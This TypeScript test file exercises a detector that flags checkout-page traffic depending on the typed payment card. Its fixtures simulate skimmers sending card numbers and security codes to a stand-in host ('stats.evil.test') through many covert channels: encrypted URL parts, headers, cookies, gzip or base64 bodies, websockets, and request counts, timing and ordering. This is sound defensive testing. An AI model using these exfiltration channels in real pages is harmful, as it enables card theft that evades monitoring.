import { createCipheriv, createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { type Instant, Judgement, type WireMessage } from '@komainu/model';
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { dependsOnCard } from '../src/detectors/depends-on-card.ts';
import { inDoubt, judgeCheck, type Visited } from '../src/index.ts';
import {
  act,
  approval,
  by,
  CARDS,
  type Card,
  canary,
  cardField,
  connection,
  failure,
  free,
  message,
  type Parts,
  PSP,
  pinned,
  post,
  SHOP,
  type Store,
  script,
  store,
} from './make.ts';

const EVIL = 'https://stats.evil.test';
const STATS = 'https://analytics.test';

/** What the page sends of a card in one visit; `visit` counts them, so that something can differ in each. */
type Page = (card: Card, kept: Store, visit: number, who: 'a' | 'b') => readonly WireMessage[];

const OTHER: Card = { number: '5370104428190037', expiry: '08/30', code: '551', holder: 'MIKA ONO' };

function visitsTo(page: Page, kept: Store, rounds: number, more: Parts = {}): readonly Visited[] {
  const free0 = free('low', { ...more, wire: page(canary.card, kept, 0, 'a') });
  const free1 = free('high', {
    ...more,
    wire: page(OTHER, kept, 1, 'a'),
    visit: { canary: { ...canary, card: OTHER } },
  });
  const all: Visited[] = [free0, free1];
  for (let round = 1; round <= rounds; round++)
    for (const who of ['a', 'b'] as const)
      all.push(pinned(who, round, { ...more, wire: page(CARDS[who], kept, all.length, who) }));
  return all;
}

/** The provider and analytics are approved. */
const baseline = approval({
  destinations: [
    ...approval().baseline.destinations,
    { origin: STATS, cards: [], owner: null, justification: null },
  ],
});

interface Options {
  readonly rounds?: number;
  readonly approved?: ReturnType<typeof approval> | null;
  readonly more?: Parts;
}
function judged(page: Page, { rounds = 2, approved = baseline, more = {} }: Options = {}) {
  const kept = store();
  const recordings = visitsTo(page, kept, rounds, more);
  const judgement = judgeCheck({ recordings, baseline: approved, bodies: kept.bodies });
  expect(Judgement.parse(judgement)).toEqual(judgement);
  return {
    judgement,
    found: judgement.findings.filter(({ detector }) => detector === 'depends-on-card'),
    doubt: inDoubt({ recordings, baseline: approved, bodies: kept.bodies }),
  };
}

/** The detector alone, without the search of the wire: for floods. */
function detected(page: Page, rounds = 2) {
  const kept = store();
  const recordings = visitsTo(page, kept, rounds);
  return dependsOnCard.detect(recordings, { baseline: baseline.baseline, bodies: kept.bodies });
}

/** Real ciphertext, the same for the same card: as under a pinned source of chance. */
const sealed = (text: string, encoding: 'base64' | 'hex' = 'base64'): string => {
  const cipher = createCipheriv('aes-128-ctr', Buffer.alloc(16, 7), Buffer.alloc(16, 9));
  return Buffer.concat([cipher.update(text), cipher.final()]).toString(encoding);
};
/** Another one every time. */
const random = (seed: string): string => createHash('sha256').update(seed).digest('base64');
const later = (ms: number): Instant =>
  new Date(Date.parse('2026-11-22T12:00:00.000Z') + ms).toISOString() as Instant;

describe('depends-on-card: what depends', () => {
  test('a ciphertext that follows the card is in doubt after one pair and proved after two', () => {
    const page: Page = (card, kept) => [
      post(kept, `${EVIL}/c`, JSON.stringify({ v: 1, d: sealed(card.number) })),
    ];
    expect(judged(page, { rounds: 1 })).toMatchObject({ doubt: true, found: [{ grade: 'unobserved' }] });
    const { found, doubt, judgement } = judged(page);
    expect(doubt).toBe(false);
    expect(judgement.verdict.kind).toBe('tampered');
    expect(found).toMatchObject([
      {
        grade: 'tampered',
        severity: 'critical',
        confidence: 'certain',
        key: `depends-on-card:POST ${EVIL}/c`,
        difference: { kind: 'value', message: `POST ${EVIL}/c`, part: 'body /d' },
      },
    ]);
    const { a, b } = found[0]?.difference ?? { a: null, b: null };
    expect(a?.pointer).toBe('/artifacts/wire/value/0');
    expect(a?.text).toBe(sealed(CARDS.a.number));
    expect(b?.text).toBe(sealed(CARDS.b.number));
    expect(a?.recording).not.toBe(b?.recording);
  });

  test.each<readonly [string, Page, string]>([
    ['path', (card) => [message(`${EVIL}/p/${sealed(card.number, 'hex')}.gif`)], 'path'],
    ['host', (card) => [message(`https://${sealed(card.number, 'hex')}.evil.test/`)], 'host'],
    [
      'query',
      (card) => [message(`${EVIL}/i.gif?v=2&u=${encodeURIComponent(sealed(card.number))}`)],
      'query u',
    ],
    [
      'header',
      (card) => [message(`${EVIL}/x`, { headers: [['X-Trace', sealed(card.number)]] })],
      'header x-trace',
    ],
    [
      'cookie',
      (card) => [message(`${EVIL}/x`, { headers: [['Cookie', `a=1; s=${sealed(card.number)}`]] })],
      'cookie s',
    ],
    [
      'referrer',
      (card) => [message(`${EVIL}/x`, { headers: [['Referer', `${SHOP}/?${sealed(card.number)}`]] })],
      'header referer',
    ],
    [
      'form',
      (card, kept) => [post(kept, `${EVIL}/c`, `a=1&d=${encodeURIComponent(sealed(card.number))}`)],
      'body d',
    ],
    [
      'multipart with a boundary of its own every time',
      (card, kept, visit) => [
        post(
          kept,
          `${EVIL}/c`,
          `--b${visit}\r\nContent-Disposition: form-data; name="d"\r\n\r\n${sealed(card.number)}\r\n--b${visit}--\r\n`,
          { headers: [['Content-Type', `multipart/form-data; boundary=b${visit}`]] },
        ),
      ],
      'body d',
    ],
    [
      'JSON in base64 in JSON',
      (card, kept) => [
        post(
          kept,
          `${EVIL}/c`,
          JSON.stringify({ p: btoa(JSON.stringify({ e: [{ t: 1 }, { x: sealed(card.number) }] })) }),
        ),
      ],
      'body /p (base64)/e/1/x',
    ],
    [
      'gzip',
      (card, kept) => [post(kept, `${EVIL}/c`, gzipSync(JSON.stringify({ x: sealed(card.number) })))],
      'body (gzip)/x',
    ],
    ['binary', (card, kept) => [post(kept, `${EVIL}/c`, Buffer.from(sealed(card.number), 'base64'))], 'body'],
    [
      'web socket',
      (card, kept) => [
        post(kept, 'wss://evil.test/s', sealed(card.number), { channel: 'websocket', resource: 'websocket' }),
      ],
      'frame',
    ],
    ["the shop's own relay", (card, kept) => [post(kept, `${SHOP}/api/log`, sealed(card.number))], 'body'],
    [
      'the name of a field',
      (card, kept) => [post(kept, `${EVIL}/c`, JSON.stringify({ [sealed(card.number)]: 1 }))],
      'body',
    ],
  ])('%s: tampered, certain', (_, page, part) => {
    const { found, doubt } = judged(page, { rounds: 3 });
    expect(found[0]).toMatchObject({ grade: 'tampered', confidence: 'certain' });
    expect(found[0]?.difference?.part.startsWith(part)).toBe(true);
    expect(doubt).toBe(false);
  });

  test('one digit a message: three pairs, since one digit may be chance', () => {
    const page: Page = (card) =>
      Array.from(card.number, (d, i) =>
        message(`${EVIL}/k.gif?k=${(Number(d) * 7 + i) % 10}`, { at: later(i * 10) }),
      );
    expect(judged(page).doubt).toBe(true);
    expect(judged(page, { rounds: 3 })).toMatchObject({ doubt: false, found: [{ grade: 'tampered' }] });
  });

  test('as many requests as a digit says', () => {
    const page: Page = (card) =>
      Array.from(card.number).flatMap((d, i) =>
        Array.from({ length: Number(d) }, () => message(`${EVIL}/p${String.fromCharCode(97 + i)}.gif`)),
      );
    expect(judged(page, { rounds: 3 }).found).toMatchObject(
      expect.arrayContaining([expect.objectContaining({ grade: 'tampered' })]),
    );
  });

  test('padding as long as a digit says, over noise', () => {
    const page: Page = (card, kept, visit) =>
      Array.from(card.number, (d, i) =>
        post(
          kept,
          `${EVIL}/p${String.fromCharCode(97 + i)}`,
          random(`${visit} ${i}`).slice(0, 20 + Number(d)),
        ),
      );
    expect(judged(page, { rounds: 3 }).found[0]).toMatchObject({
      grade: 'tampered',
      difference: { kind: 'length' },
    });
  });

  test('pings whose moments follow the digits', () => {
    const page: Page = (card) => {
      let at = 0;
      return Array.from(card.number, (d) => {
        at += 1500 * (1 + Number(d));
        return message(`${EVIL}/ping`, { at: later(at) });
      });
    };
    const { found } = judged(page, { rounds: 3 });
    expect(found[0]).toMatchObject({ grade: 'tampered', difference: { kind: 'timing' } });
  });

  test('images asked for in the order of the digits', () => {
    const page: Page = (card) => {
      const order = Array.from('abcdefghij').toSorted((x, y) =>
        createHash('md5')
          .update(x + card.number)
          .digest('hex') <
        createHash('md5')
          .update(y + card.number)
          .digest('hex')
          ? -1
          : 1,
      );
      return order.map((name, i) => message(`${EVIL}/${name}.png`, { at: later(i) }));
    };
    expect(judged(page, { rounds: 3 }).found[0]).toMatchObject({
      grade: 'tampered',
      difference: { kind: 'order' },
    });
  });

  test('a ciphertext in batches that are cut another way each time', () => {
    const page: Page = (card, kept, visit) => {
      const events = Array.from({ length: 3 + (visit % 3) }, (_, i) => ({ e: 'scroll', y: i * visit }));
      events.splice(visit % 3, 0, { e: sealed(`${card.number}${card.code}`), y: 0 });
      return [
        ...Array.from({ length: visit % 2 }, () =>
          post(kept, `${STATS}/collect`, JSON.stringify([{ e: 'idle' }])),
        ),
        post(kept, `${STATS}/collect`, JSON.stringify(events)),
      ];
    };
    expect(judged(page).found[0]).toMatchObject({ grade: 'tampered', confidence: 'certain' });
  });

  test('the security code alone needs no second pair', () => {
    const page: Page = (card) => [message(`${EVIL}/i.gif?c=${card.code}`)];
    expect(judged(page, { rounds: 1 })).toMatchObject({
      doubt: false,
      found: [
        { grade: 'tampered', confidence: 'certain', title: { en: expect.stringContaining('security code') } },
      ],
    });
  });

  test('bytes through a connection no message explains', () => {
    const kept = store();
    const visits = [1, 2, 3].flatMap((round) =>
      (['a', 'b'] as const).map((who) =>
        pinned(who, round, {
          connections: [connection(`${sealed(CARDS[who].number, 'hex')}.evil.test`)],
        }),
      ),
    );
    const { findings } = judgeCheck({
      recordings: [free('low'), free('high'), ...visits],
      baseline,
      bodies: kept.bodies,
    });
    expect(findings.find(({ detector }) => detector === 'depends-on-card')).toMatchObject({
      grade: 'tampered',
      difference: { part: 'host 2' },
    });
  });
});

describe('depends-on-card: how much', () => {
  const masked: Page = (card, kept) => [
    post(
      kept,
      `${STATS}/form`,
      JSON.stringify({ f: 'card', v: `${card.number.slice(0, 6)}******${card.number.slice(-4)}` }),
    ),
  ];
  test('a masked number is told for what it is: no tampering, and no second pair', () => {
    const { found, doubt, judgement } = judged(masked, { rounds: 1 });
    expect(doubt).toBe(false);
    expect(judgement.verdict.kind).toBe('changed');
    expect(found).toMatchObject([
      { grade: 'changed', severity: 'high', title: { en: expect.stringContaining('last four') } },
    ]);
  });
  test('and quiet where the baseline lets the destination learn it, not where it may learn less', () => {
    const may = (reveals: 'first-six' | 'last-four') =>
      approval({
        destinations: [
          ...approval().baseline.destinations,
          { origin: STATS, cards: [], reveals, owner: null, justification: null },
        ],
      });
    expect(judged(masked, { approved: may('last-four') })).toMatchObject({ found: [], doubt: false });
    expect(judged(masked, { approved: may('first-six') }).found).toHaveLength(1);
  });
  test('last four without a zero in front, as a number', () => {
    const page: Page = (card) => [message(`${STATS}/e?l=${Number(card.number.slice(-4))}`)];
    expect(judged(page, { rounds: 1 }).found).toMatchObject([{ grade: 'changed' }]);
  });
  test('eight of the first digits are more than a brand', () => {
    const page: Page = (card, kept) => [
      post(kept, `${STATS}/form`, JSON.stringify({ v: `${card.number.slice(0, 12)}****` })),
    ];
    expect(judged(page, { rounds: 3 }).found[0]).toMatchObject({ grade: 'tampered' });
  });
  test('a yes or no is little, and said so', () => {
    const page: Page = (_card, kept, _visit, who) => [
      post(kept, `${STATS}/form`, JSON.stringify({ valid: who === 'a' })),
    ];
    expect(judged(page).doubt).toBe(true);
    expect(judged(page, { rounds: 3 })).toMatchObject({
      doubt: false,
      found: [{ grade: 'changed', severity: 'low' }],
    });
  });
  test('the first six digits to a stranger: seen because free visits have other cards', () => {
    const page: Page = (card) => [message(`${STATS}/bin?b=${card.number.slice(0, 6)}`)];
    expect(judged(page).found).toMatchObject([
      { grade: 'changed', severity: 'medium', key: `depends-on-card:first-six:GET ${STATS}/bin` },
    ]);
  });
  test("the holder's name to the shop itself is for a person to look at", () => {
    const page: Page = (card, kept) => [post(kept, `${SHOP}/address`, JSON.stringify({ name: card.holder }))];
    expect(judged(page, { rounds: 1 }).found).toMatchObject([{ grade: 'changed', severity: 'high' }]);
  });
});

describe('depends-on-card: honest neighbours', () => {
  test.each<readonly [string, Page]>([
    [
      'nothing differs',
      (_card, kept) => [message(`${SHOP}/app.js`), post(kept, `${SHOP}/events`, '{"n":1}')],
    ],
    [
      'the approved payment call in plain sight',
      (card, kept) => [
        post(
          kept,
          `${PSP}/tokens`,
          JSON.stringify({ number: card.number, cvc: card.code, exp: card.expiry }),
        ),
      ],
    ],
    [
      "the approved payment call encrypted by the provider's script",
      (card, kept) => [post(kept, `${PSP}/tokens`, JSON.stringify({ enc: sealed(JSON.stringify(card)) }))],
    ],
    [
      'analytics with random ids and an unload beacon',
      (_card, kept, visit) => [
        message(`${STATS}/collect?cid=${random(`c${visit}`).slice(0, 20)}&z=${visit * 7919}`),
        post(
          kept,
          `${STATS}/collect`,
          JSON.stringify({ sid: random(`s${visit}`), t: 1_700_000_000 + visit }),
          {
            resource: 'ping',
          },
        ),
      ],
    ],
    [
      'rotating tokens',
      (_card, _kept, visit) => [
        message(`${SHOP}/api/cart`, { headers: [['X-CSRF-Token', random(`t${visit}`)]] }),
      ],
    ],
    [
      'a heartbeat that beats more or less often',
      (_card, kept, visit) =>
        Array.from({ length: 2 + (visit % 3) }, (_, i) =>
          post(kept, `${STATS}/beat`, JSON.stringify({ n: i })),
        ),
    ],
    ['a BIN lookup at the provider', (card) => [message(`${PSP}/bins?bin=${card.number.slice(0, 6)}`)]],
    [
      'web vitals',
      (_card, kept, visit) => [
        post(
          kept,
          `${STATS}/vitals`,
          JSON.stringify({
            lcp: 812 + ((visit * 37) % 91),
            inp: 16 + 8 * (visit % 3),
            rating: visit % 3 ? 'good' : 'fair',
          }),
        ),
      ],
    ],
    [
      'an A/B test',
      (_card, _kept, visit) => [message(`${STATS}/exp?v=${visit % 3 ? 'control' : 'treatment'}`)],
    ],
    [
      'a session replay that masks what is typed',
      (card, kept, visit) => [
        post(
          kept,
          `${STATS}/replay`,
          JSON.stringify({ s: random(`r${visit}`), input: '*'.repeat(card.number.length) }),
        ),
      ],
    ],
    [
      'a captcha: a blob nobody can read, another one every time',
      (_card, kept, visit) => [post(kept, `${STATS}/verify`, random(`x${visit}`) + random(`y${visit}`))],
    ],
    [
      'pixels of an auction: as many as there are bidders, racing',
      (_card, _kept, visit) =>
        Array.from({ length: (visit * 5) % 4 }, (_, i) => message(`${STATS}/px?b=${(i * 7 + visit) % 5}`)),
    ],
  ])('%s: quiet', (_, page) => {
    const { found } = judged(page, { rounds: 3 });
    expect(found).toEqual([]);
  });

  test('one message that overtakes twelve others is one, not twelve', () => {
    const page: Page = (_card, _kept, _visit, who) =>
      Array.from({ length: 14 }, (_, i) =>
        message(`${STATS}/${String.fromCharCode(97 + i)}`, { at: later(i) }),
      ).toSorted((x, y) =>
        who === 'b' && x.url.endsWith('/b') ? 1 : who === 'b' && y.url.endsWith('/b') ? -1 : 0,
      );
    expect(judged(page).doubt).toBe(true);
    expect(judged(page, { rounds: 3 }).found).toEqual([]);
    const elsewhere: Page = (...all) =>
      page(...all).map((one) => ({ ...one, url: one.url.replace(STATS, EVIL) }));
    expect(judged(elsewhere, { rounds: 3 }).found).toMatchObject([{ grade: 'changed', severity: 'high' }]);
  });

  test('one late timer moves every time stamp after it: one accident, though it fell with the cards', () => {
    const page: Page = (_card, kept, _visit, who) => [
      post(
        kept,
        `${STATS}/replay`,
        JSON.stringify(
          Array.from({ length: 80 }, (_, i) => ['m', 100 + 17 * i + (who === 'b' && i > 20 ? 3 : 0)]),
        ),
      ),
    ];
    expect(judged(page).found.every(({ grade }) => grade === 'changed')).toBe(true);
    expect(judged(page, { rounds: 3 }).found).toEqual([]);
  });

  test('a batch that is cut one event earlier says the same', () => {
    const page: Page = (_card, kept, _visit, who) => {
      const events = Array.from({ length: 40 }, (_, i) => ['m', 100 + 17 * i, [i * 31, i * 7]]);
      const cut = who === 'a' ? 20 : 19;
      return [events.slice(0, cut), events.slice(cut)].map((one) =>
        post(kept, `${STATS}/replay`, JSON.stringify(one)),
      );
    };
    expect(judged(page, { rounds: 1 })).toMatchObject({ doubt: false, found: [] });
  });

  test('what races is in doubt after one pair, and no more after two', () => {
    const page: Page = (_card, kept, visit) => [post(kept, `${STATS}/c`, random(`${visit}`))];
    expect(judged(page, { rounds: 1 })).toMatchObject({ doubt: true, found: [{ grade: 'unobserved' }] });
    expect(judged(page)).toMatchObject({ doubt: false, found: [] });
  });

  test('a request that was answered from the tape has no cookies: that is no difference', () => {
    const page: Page = (_card, _kept, visit) => [
      message(`${SHOP}/api/cart`, {
        headers:
          visit === 2
            ? [
                ['Accept', '*/*'],
                ['Accept-Encoding', 'gzip'],
                ['Accept-Language', 'ja'],
                ['Cookie', 'sid=1; cart=2'],
              ]
            : [['Accept', '*/*']],
      }),
    ];
    expect(judged(page, { rounds: 1 })).toMatchObject({ doubt: false, found: [] });
  });

  test('a runner that adds a pair to its list is answered anew', () => {
    const kept = store();
    const all = visitsTo((card, into) => [post(into, `${EVIL}/c`, sealed(card.number))], kept, 2);
    const recordings = all.slice(0, 4);
    expect(inDoubt({ recordings, baseline, bodies: kept.bodies })).toBe(true);
    recordings.push(...all.slice(4));
    expect(inDoubt({ recordings, baseline, bodies: kept.bodies })).toBe(false);
  });

  test('old recordings without a role, and a check of one visit, are judged as before', () => {
    const kept = store();
    for (const recordings of [[free('low')], [{ ...free('low'), recording: pinned('a', 1).recording }]])
      expect(
        judgeCheck({ recordings, baseline, bodies: kept.bodies }).findings.filter(
          ({ detector }) => detector === 'depends-on-card',
        ),
      ).toEqual([]);
  });

  test.each<readonly [string, Parts]>([
    ['failed on its way', { failure: failure('timeout') }],
    ['typed nothing', { cardFields: [cardField('number', PSP, { typedAt: null })] }],
    ['did not see the wire', { failed: ['wire'] }],
  ])('a pinned visit that %s: not proved, never clean', (_, parts) => {
    const kept = store();
    const recordings = [free('low'), free('high'), pinned('a', 1), pinned('b', 1, parts)];
    const { findings, verdict } = judgeCheck({ recordings, baseline, bodies: kept.bodies });
    expect(verdict.kind).toBe('not-fully-observed');
    expect(findings.map(({ key }) => key)).toContain('depends-on-card:not-proved');
    expect(inDoubt({ recordings, baseline, bodies: kept.bodies })).toBe(false);
  });

  test('pinned visits say nothing of headers or of how they got there', () => {
    const kept = store();
    const recordings = [
      free('low'),
      free('high'),
      pinned('a', 1, { headers: [] }),
      pinned('b', 1, { headers: [] }),
    ];
    expect(judgeCheck({ recordings, baseline, bodies: kept.bodies }).verdict.kind).toBe('clean');
  });
});

describe('depends-on-card: what cannot be read', () => {
  const page: Page = (_card, kept, visit) => [
    post(kept, `${EVIL}/c`, random(`pad ${visit}`), { initiator: by(`${EVIL}/t.js`) }),
  ];
  test('a one-time pad from a script that had read the card: tampered, likely', () => {
    const { found } = judged(page, {
      more: { acts: [act('read', 'HTMLInputElement.value', `${EVIL}/t.js`)] },
    });
    expect(found).toMatchObject([
      { grade: 'tampered', confidence: 'likely', key: `depends-on-card:opaque:POST ${EVIL}/c` },
    ]);
  });
  test('from a script that had not: changed', () => {
    expect(judged(page).found).toMatchObject([{ grade: 'changed', severity: 'medium' }]);
  });
  test('to an approved host from a changed bundle that had read the card: changed, high', () => {
    const kept = store();
    const bundle = `${SHOP}/app.js`;
    const approved = approval({
      scripts: [
        { where: bundle, hashes: [kept.put('pay()')], reads: ['number'], owner: null, justification: null },
      ],
    });
    const { found } = judged(
      (_card, into, visit) => [post(into, `${SHOP}/log`, random(`${visit}`), { initiator: by(bundle) })],
      {
        approved,
        more: {
          scripts: [script(kept, bundle, 'pay();steal()')],
          acts: [act('read', 'HTMLInputElement.value', bundle)],
        },
      },
    );
    expect(found).toMatchObject([{ grade: 'changed', severity: 'high' }]);
  });
});

describe('depends-on-card: hostile pages', () => {
  test('five thousand messages, none alike', () => {
    const page: Page = (_card, _kept, visit) =>
      Array.from({ length: 5000 }, (_, i) =>
        message(`${EVIL}/${i % 7}/${(i * 7919 + visit * 104_729) % 100_003}`),
      );
    expect(detected(page).every(({ grade }) => grade === 'changed')).toBe(true);
  });
  test('five thousand equal messages, another number of them each time', () => {
    const page: Page = (_card, _kept, visit) =>
      Array.from({ length: 5000 - visit }, () => message(`${EVIL}/x`));
    expect(detected(page)).toEqual([]);
    const follows: Page = (_card, _kept, _visit, who) =>
      Array.from({ length: who === 'a' ? 5000 : 4990 }, () => message(`${EVIL}/x`));
    expect(detected(follows, 3)).toMatchObject([{ grade: 'changed', difference: { kind: 'count' } }]);
  });
  test.each<readonly [string, (card: Card) => string]>([
    ['nested a megabyte deep', (card) => '['.repeat(500_000) + card.code + ']'.repeat(500_000)],
    [
      'thirty thousand members',
      (card) => `{${Array.from({ length: 30_000 }, (_, i) => `"k${i}":${i}`).join()},"x":${card.code}}`,
    ],
    [
      'one name ten thousand times',
      (card) => Array.from({ length: 10_000 }, (_, i) => `a=${card.number[i % 16]}`).join('&'),
    ],
    ['broken JSON', (card) => `{"a":[${card.code}`],
    ['lone surrogates', (card) => `{"\ud800":"\udfff${card.code}"}`],
  ])('%s: differences are found all the same', (_, body) => {
    const page: Page = (card, kept) => [post(kept, `${EVIL}/c`, body(card))];
    const found = detected(page, 3);
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ grade }) => grade !== 'unobserved')).toBe(true);
  });
  test('addresses that are none, headers full of rubbish', () => {
    const page: Page = (card) => [
      message(`http://[::${card.code}`, {
        headers: [
          ['\ud800', '\udc00'.repeat(100)],
          ['', ';;;=='],
        ],
      }),
      message('https://%zz/%', { headers: [['Cookie', '=; ;==%']] }),
    ];
    expect(judged(page, { rounds: 3 }).judgement.verdict.kind).toBe('tampered');
  });
});

describe('depends-on-card: properties', () => {
  const url = fc.webUrl({ withQueryParameters: true, validSchemes: ['https'] });
  const wire = fc.array(
    fc.record({
      url,
      body: fc.oneof(fc.string({ unit: 'binary' }), fc.json(), fc.webQueryParameters()),
      headers: fc.array(fc.tuple(fc.string({ maxLength: 8 }), fc.string({ maxLength: 20 })), {
        maxLength: 3,
      }),
    }),
    { maxLength: 12 },
  );
  test('the same whatever the card: nothing is found and nothing is doubted', () => {
    fc.assert(
      fc.property(wire, (sent) => {
        const { found, doubt } = judged((_card, kept) =>
          sent.map((one) => post(kept, one.url, one.body.toWellFormed(), { headers: one.headers })),
        );
        expect(found).toEqual([]);
        expect(doubt).toBe(false);
      }),
      { numRuns: 60 },
    );
  });
  test('unrelated messages in another order: nothing is found', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.domain(), { minLength: 2, maxLength: 8 }),
        fc.array(fc.nat(), { minLength: 8, maxLength: 8 }),
        (hosts, seeds) => {
          const found = detected((_card, _kept, visit) =>
            hosts
              .map((host, i) => [(seeds[(visit + i) % 8] ?? 0) * (i + 1) + i, host] as const)
              .toSorted(([x], [y]) => x - y)
              .map(([, host]) => message(`https://${host}/t.gif`)),
          );
          expect(found).toEqual([]);
        },
      ),
      { numRuns: 60 },
    );
  });
  test('any part that is sealed with the card is found', () => {
    fc.assert(
      fc.property(
        fc.jsonValue({ maxDepth: 3 }),
        fc.constantFrom('path', 'query', 'body', 'cookie'),
        (noise, where) => {
          const found = detected((card, kept) => {
            const secret = encodeURIComponent(sealed(card.number));
            if (where === 'path') return [message(`${EVIL}/a/${secret}`)];
            if (where === 'query')
              return [message(`${EVIL}/a?x=${encodeURIComponent(JSON.stringify(noise))}&y=${secret}`)];
            if (where === 'cookie')
              return [message(`${EVIL}/a`, { headers: [['cookie', `x=1; y=${secret}`]] })];
            return [post(kept, `${EVIL}/a`, JSON.stringify([noise, { deep: [secret] }]))];
          });
          expect(found[0]).toMatchObject({ grade: 'tampered', confidence: 'certain' });
        },
      ),
      { numRuns: 60 },
    );
  });
});
